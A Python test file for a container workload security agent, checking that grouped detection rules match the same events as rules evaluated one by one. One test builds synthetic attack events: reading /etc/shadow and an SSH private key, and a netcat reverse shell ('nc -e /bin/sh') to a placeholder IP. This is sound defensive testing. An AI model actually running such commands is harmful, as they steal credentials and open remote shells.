"""A rule group (all of an event type's rules in one generated function, with shared
operands and sub-conditions evaluated once) gives exactly what the rules give one by one."""
from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.capture.strategies import events
from tests.rules.upstream_files import NAMES, rules_dir
from tests.rules.test_compile_upstream_scenarios import openat, execve, proc, shell_parent, CTR
from workload_agent.detect import default_rules_paths
from workload_agent.rules.loader import load_rules
from workload_agent.rules.group import compile_group


def _ruleset(paths):
    result = load_rules(paths, compile_each=False)
    assert result.ok, [m.as_text() for m in result.errors]
    return result.ruleset


UPSTREAM = _ruleset([str(rules_dir() / n) for n in NAMES])
DEFAULT = _ruleset(default_rules_paths())


def one_by_one(ruleset, ev, first):
    out = []
    for r in ruleset.candidates(ev.type):
        if r.source == ev.source and r.evaluate(ev):
            out.append(r)
            if first:
                break
    return out


def outcome(f):
    try:
        return [r.name for r in f()]
    except Exception as exc:  # noqa: BLE001 - the same failure both ways is the same behaviour
        return type(exc).__name__


@pytest.mark.parametrize("ruleset", [UPSTREAM, DEFAULT], ids=["upstream", "default"])
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(ev=events(), first=st.booleans())
def test_group_matches_rules(ruleset, ev, first):
    assert outcome(lambda: ruleset.match(ev, "first" if first else "all")) == \
        outcome(lambda: one_by_one(ruleset, ev, first))


def test_group_on_events_that_fire():
    shell = shell_parent(CTR)
    cases = [openat("/etc/shadow", proc("cat", parent=shell, container=CTR)),
             openat("/etc/shadow", proc("cat", parent=shell, container=CTR), flags=2),
             openat("/root/.ssh/id_rsa", proc("python3", parent=shell, container=CTR)),
             execve(proc("nc", args=["-e", "/bin/sh", "1.2.3.4"], parent=shell, container=CTR)),
             execve(proc("bash", parent=proc("nginx", container=CTR), container=CTR, tty=34816))]
    fired = 0
    for ev in cases:
        for ruleset in (UPSTREAM, DEFAULT):
            got = [r.name for r in ruleset.match(ev, "all")]
            assert got == [r.name for r in one_by_one(ruleset, ev, False)]
            fired += bool(got)
    assert fired >= 3  # the cases do reach rules that fire


def test_type_checks_are_decided_per_group():
    rules = [r for r in UPSTREAM.enabled_rules if r.event_types and "openat" in r.event_types]
    group = compile_group(rules, "openat")
    ev = openat("/etc/shadow", proc("cat", parent=shell_parent(CTR), container=CTR))
    assert [r.name for r in group(ev, False)] == [r.name for r in rules if r.evaluate(ev)]
    # A group built for another type leaves out what only openat can match.
    assert compile_group(rules, "execve")(ev, False) == [r for r in rules
                                                         if r.event_types is None and r.evaluate(ev)]
